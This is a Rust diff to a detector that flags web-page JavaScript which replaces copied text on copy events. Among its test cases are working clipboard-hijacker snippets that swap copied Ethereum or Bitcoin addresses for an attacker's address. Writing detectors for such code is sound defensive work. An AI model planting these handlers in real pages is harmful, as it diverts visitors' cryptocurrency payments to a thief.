@@ -17,9 +17,11 @@ pub(super) const SIGNAL: Signal = Signal {
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &[
+            r#"const r=[/\b0x[a-fA-F0-9]{40}\b/g];function swap(t){for(const x of r)t=t.replace(x,mine);return t}document.addEventListener('copy',e=>{const s=getSelection().toString();const n=swap(s);if(n!==s){e.clipboardData.setData('text/plain',n);e.preventDefault()}})"#,
             r#"let to='';fetch('/a').then(r=>r.json()).then(j=>to=j.a);document.addEventListener('copy',e=>{const s=getSelection().toString();if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(s)){e.clipboardData.setData('text/plain',to);e.preventDefault()}})"#,
         ],
         without: &[
+            r#"document.addEventListener('copy',e=>{const s=getSelection().toString().replace(/\s+/g,' ');if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(s)){e.clipboardData.setData('text/plain',s);e.preventDefault();toast('copied')}})"#,
             r#"document.addEventListener('copy',e=>{const s=getSelection().toString();e.clipboardData.setData('text/plain',s+' from our site');e.preventDefault()})"#,
             r#"button.onclick=()=>{if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(to))navigator.clipboard.writeText(to)}"#,
         ],
@@ -34,5 +36,39 @@ fn on_copy(evidence: &Evidence<'_>, held: Held) -> bool {
             && matches!(near.word(at.wrapping_sub(2)), "addEventListener" | "on");
         listened || matches!(near.word(at), "oncopy" | "oncut") && near.is(at + 1, b'=')
     });
-    listens && near.words(&["setData"]).any(|at| near.is(at + 1, b'('))
+    listens
+        && near.words(&["setData"]).filter(|at| near.is(at + 1, b'(')).any(|at| {
+            let put = (at + 2..at + 8).find(|at| near.is(*at, b',')).map(|comma| comma + 1);
+            put.is_some_and(|at| {
+                near.kind(at) == Some(Kind::Name) && near.is(at + 1, b')') && is_another(near, at)
+            })
+        })
 }
+
+/// Whether a name does not hold what was selected: it was set elsewhere, or what was selected was put through a replacement.
+fn is_another(near: Near<'_>, name: usize) -> bool {
+    let set = near.places().filter(|at| {
+        near.kind(*at) == Some(Kind::Name) && near.word(*at) == near.word(name) && near.is(at + 1, b'=')
+    });
+    let mut values = set.map(|at| (at + 2..at + 18).take_while(|at| !near.is(*at, b';')));
+    let of_page = |at: usize| SELECTED.contains(&near.word(at));
+    let replaces = near.words(&["replace", "replaceAll"]).any(|at| {
+        (at + 2..at + 6)
+            .find(|at| near.is(*at, b','))
+            .is_some_and(|comma| near.kind(comma + 1) == Some(Kind::Name))
+    });
+    replaces || values.clone().next().is_some() && !values.any(|mut value| value.any(of_page))
+}
+
+/// Words of what the page shows or a visitor selects.
+const SELECTED: &[&str] = &[
+    "getSelection",
+    "selection",
+    "dataset",
+    "target",
+    "value",
+    "textContent",
+    "innerText",
+    "getData",
+    "toString",
+];
